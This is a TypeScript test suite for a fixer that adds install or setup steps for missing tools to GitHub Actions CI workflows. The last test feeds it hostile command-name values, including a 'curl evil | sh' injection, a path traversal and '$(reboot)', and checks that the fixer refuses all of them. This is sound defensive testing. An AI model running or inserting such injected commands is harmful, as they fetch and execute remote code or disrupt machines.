import { validateWorkflow } from '../validate/workflow.js';
import { context, diagnosis, fixture, lineChanges } from './fixtures/support.js';
import { missingCommandFixer } from './missing-command.js';
import { isFix } from './types.js';

const python = fixture('ci-python.yml.txt');
const node = fixture('ci-node.yml.txt');
const missing = (command: string) => diagnosis({ category: 'missing-command', facts: { command } });

describe('missing-command fixer', () => {
  it('installs xmllint from libxml2-utils right before the failing unnamed step', async () => {
    const ctx = context({
      diagnosis: missing('xmllint'),
      job: { name: 'docs' },
      step: { name: 'Run xmllint --noout _build/html/sitemap.xml', number: 5 },
      files: { '.github/workflows/ci.yml': python },
    });
    const out = missingCommandFixer.fix(ctx);
    if (!isFix(out)) throw new Error(out.reason);
    const after = out.edits[0]?.after ?? '';
    expect(lineChanges(python, after)).toEqual({
      removed: [],
      added: [
        '      - name: Install xmllint',
        '        run: sudo apt-get update && sudo apt-get install -y --no-install-recommends libxml2-utils',
      ],
    });
    expect(after).toContain(
      '      - run: make html\n      - name: Install xmllint\n        run: sudo apt-get update && sudo apt-get install -y --no-install-recommends libxml2-utils\n      - run: xmllint',
    );
    expect(await validateWorkflow(ctx.workflowPath, after)).toEqual({ ok: true, errors: [] });
  });

  it('keeps the file’s unindented sequence style and guards apt on a matrix with macOS', async () => {
    const out = missingCommandFixer.fix(
      context({
        diagnosis: missing('jq'),
        job: { name: 'build' },
        step: { name: 'Check release notes', number: 5 },
        files: { '.github/workflows/ci.yml': node },
      }),
    );
    if (!isFix(out)) throw new Error(out.reason);
    expect(lineChanges(node, out.edits[0]?.after ?? '').added).toEqual([
      '    - name: Install jq',
      '      run: sudo apt-get update && sudo apt-get install -y --no-install-recommends jq',
    ]);

    const guarded = missingCommandFixer.fix(
      context({
        diagnosis: missing('protoc'),
        job: { name: 'test (macos-latest, 3.12, false)' },
        step: { name: 'Run tests', number: 6 },
        files: { '.github/workflows/ci.yml': python },
      }),
    );
    if (!isFix(guarded)) throw new Error(guarded.reason);
    const after = guarded.edits[0]?.after ?? '';
    expect(lineChanges(python, after).added).toEqual([
      '      - name: Install protoc',
      "        if: runner.os == 'Linux'",
      '        run: sudo apt-get update && sudo apt-get install -y --no-install-recommends protobuf-compiler',
    ]);
    expect(after).toContain('      # The tests need the fixtures generated first.\n      - name: Generate fixtures');
    expect(await validateWorkflow('.github/workflows/ci.yml', after)).toEqual({ ok: true, errors: [] });
  });

  it('adds a setup action, reusing the ref the workflow already pins and a version file from the tree', async () => {
    const out = missingCommandFixer.fix(
      context({
        diagnosis: missing('node'),
        job: { name: 'release-assets' },
        step: { name: 'Build', number: 4 },
        files: { '.github/workflows/ci.yml': node },
        tree: ['.nvmrc', 'package.json'],
      }),
    );
    if (!isFix(out)) throw new Error(out.reason);
    const after = out.edits[0]?.after ?? '';
    expect(lineChanges(node, after).added).toEqual([
      '    - name: Set up Node.js',
      '      uses: actions/setup-node@v4',
      '      with:',
      "        node-version-file: '.nvmrc'",
    ]);
    expect(await validateWorkflow('.github/workflows/ci.yml', after)).toEqual({ ok: true, errors: [] });
  });

  it('uses setup-java with a distribution when the workflow has no Java yet', () => {
    const out = missingCommandFixer.fix(
      context({
        diagnosis: missing('java'),
        job: { name: 'lint' },
        step: { name: 'Run ruff check .', number: 5 },
        files: { '.github/workflows/ci.yml': python },
      }),
    );
    if (!isFix(out)) throw new Error(out.reason);
    expect(lineChanges(python, out.edits[0]?.after ?? '').added).toEqual([
      '      - name: Set up Java',
      '        uses: actions/setup-java@v5',
      '        with:',
      '          distribution: temurin',
      "          java-version: '21'",
    ]);
  });

  it('declines with reasons: already set up, unknown command, Windows, container', () => {
    const at = (command: string, job: string, step: string, number: number, wf = node) =>
      missingCommandFixer.fix(
        context({
          diagnosis: missing(command),
          job: { name: job },
          step: { name: step, number },
          files: { '.github/workflows/ci.yml': wf },
        }),
      );
    expect(at('npm', 'build', 'Run npm ci', 4)).toMatchObject({
      reason: expect.stringContaining('already runs actions/setup-node'),
    });
    expect(at('frobnicate', 'build', 'Run npm test', 6)).toMatchObject({
      reason: 'no known package provides `frobnicate`',
      hint: expect.stringContaining('Run npm test'),
    });
    expect(at('jq', 'windows', 'Run npm ci', 3)).toMatchObject({
      reason: expect.stringContaining('does not run on Linux'),
    });
    const inContainer = node.replace(
      '  build:\n    runs-on: ubuntu-latest\n',
      '  build:\n    runs-on: ubuntu-latest\n    container: node:20\n',
    );
    expect(at('jq', 'build', 'Check release notes', 6, inContainer)).toMatchObject({
      reason: 'job `build` runs in a container',
    });
  });

  it('refuses command names that carry shell syntax or paths', () => {
    for (const command of ['jq; curl evil | sh', '../../bin/sh', '$(reboot)', 'a b']) {
      const out = missingCommandFixer.fix(
        context({
          diagnosis: missing(command),
          job: { name: 'build' },
          step: { name: 'Check release notes', number: 5 },
          files: { '.github/workflows/ci.yml': node },
        }),
      );
      expect(out).toEqual({
        fixer: 'missing-command',
        reason: `the missing command ${JSON.stringify(command)} is not a plain command name`,
      });
    }
  });
});
